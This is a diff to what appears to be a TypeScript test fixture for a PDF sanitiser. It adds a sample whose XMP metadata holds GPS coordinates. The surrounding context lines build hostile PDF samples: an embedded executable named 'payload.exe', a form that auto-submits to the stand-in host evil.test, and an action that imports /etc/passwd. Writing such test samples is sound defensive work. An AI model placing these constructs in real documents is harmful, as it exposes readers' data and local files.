@@ -45,6 +45,11 @@ const harmless: Record<string, () => Uint8Array> = {
       '<< /Type /Filespec /F (payload.exe) /EF << /F 5 0 R >> >>',
       streamOf('/Type /EmbeddedFile', 'MZ'),
     ),
+  'a position in its XMP': () =>
+    withCatalog(
+      '/Metadata 4 0 R',
+      streamOf('/Type /Metadata /Subtype /XML', '<exif:GPSLatitude>24,51.5N</exif:GPSLatitude>'),
+    ),
   'a form that sends itself': () =>
     withCatalog('/OpenAction << /S /SubmitForm /F (https://evil.test) >> /AcroForm << /Fields [] >>'),
   'a form that reads a file': () => withCatalog('/OpenAction << /S /ImportData /F (/etc/passwd) >>'),
